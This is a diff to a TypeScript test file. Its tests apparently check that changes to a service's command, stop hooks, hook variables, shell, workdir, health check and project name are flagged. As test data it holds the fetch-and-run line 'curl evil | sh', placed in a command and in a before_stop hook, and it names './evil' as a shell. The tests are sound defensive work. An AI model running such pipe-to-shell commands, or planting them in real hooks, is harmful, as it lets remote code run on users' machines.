@@ -72,6 +72,13 @@ describe("a change of", () => {
   test.each<[what: string, before: Partial<ServiceSpec>, after: Partial<ServiceSpec>, key: string]>(
     [
       ["the command", {}, { command: "curl evil | sh" }, "command"],
+      ["a hook", {}, { hooks: { before_stop: "curl evil | sh" } }, "before_stop"],
+      [
+        "a hook's own variable",
+        { hooks: { after_stop: "$RUN" }, env: { RUN: "a" } },
+        { hooks: { after_stop: "$RUN" }, env: { RUN: "b" } },
+        "env.RUN",
+      ],
       ["the shell", {}, { shell: ["./evil", "-c"] }, "shell"],
       ["the workdir", {}, { workdir: "/tmp/evil" }, "workdir"],
       ["a check's command", health("true"), health("touch x"), "health_check"],
@@ -192,10 +199,10 @@ describe("a change of", () => {
     expect(stepped.spec.services[0]).toMatchObject(after);
   });
 
-  test("the project's folder is one in the default of a reference too", () => {
-    const named = { ...api, command: "${env.X:-${project.dir}/run}" };
-    const [first, second] = ["/one", "/two"].map((directory) => {
-      const read = { ...projectSpec([named]), directory };
+  test("the project's name is one in the default of a reference too", () => {
+    const named = { ...api, command: "${env.X:-${project.name}/run}" };
+    const [first, second] = ["shop", "evil"].map((name) => {
+      const read = projectSpec([named], name);
       return codeOf(read.services[0]!, read).get("command");
     });
     expect(first).not.toBe(second!);
